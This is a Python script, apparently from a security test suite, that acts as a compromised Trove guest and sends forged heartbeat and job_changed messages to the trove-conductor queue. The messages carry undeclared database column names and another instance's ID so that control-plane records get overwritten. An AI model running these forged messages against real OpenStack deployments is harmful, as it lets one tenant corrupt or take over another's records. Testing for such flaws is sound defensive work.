# SPDX-License-Identifier: Apache-2.0
"""Messages with fields that nobody declared: run inside a guest that was taken over.

Orders on stdin: ``{"them", "boot", "seq", "columns", "jobs"}``. Each message is signed
by the guest, as it may, and names columns of the control plane's tables beside, in and
instead of its arguments; slowly enough to be read, all of them.
"""

import json
import sys
import time

import amqp
from broker import envelope, send, taken_over

PACE = 0.11


def messages(o):
    """The bodies."""
    others = {name: o["them"] for name in o["columns"]}
    report = {"boot": o["boot"], "seq": o["seq"], "service": "healthy"}
    for args in (
        {"report": others | report, **others},
        {"report": report | {"instance_id": o["them"], "id": o["them"]}},
        {"report": report, "instance_id": o["them"], "context": {"project": "x"}},
    ):
        yield "heartbeat", args
    for id in o["jobs"]:
        ended = {"id": id, "state": "done", "progress": 100}
        yield "job_changed", {"job": ended, "instance_id": o["them"]}
        yield "job_changed", {"job": others | ended | {"instance_id": o["them"]}}
        yield "heartbeat", {"report": report | {"jobs": [others | ended]}}
    for name in o["columns"]:
        yield "heartbeat", {"report": report | {name: o["them"]}, name: o["them"]}


def wait_for_room(a):
    """What an earlier attack has left open counts until the broker has missed it."""
    end = time.monotonic() + 90
    while True:
        try:
            with a.channel():
                return
        except amqp.exceptions.NotAllowed:
            if time.monotonic() > end:
                raise
            time.sleep(1)


def main():
    """All of them."""
    o = json.load(sys.stdin)
    a = taken_over(o["them"])
    wait_for_room(a)
    count = 0
    with a.channel() as channel:
        for method, args in messages(o):
            body = {"method": method, "args": args, "version": "1.0"}
            body |= {f"_context_{name}": o["them"] for name in ("project", "user")}
            send(channel, "trove", "trove-conductor", envelope(body, user_id=a.user))
            count += 1
            time.sleep(PACE)
    print(json.dumps({"sent": count}))


if __name__ == "__main__":
    main()
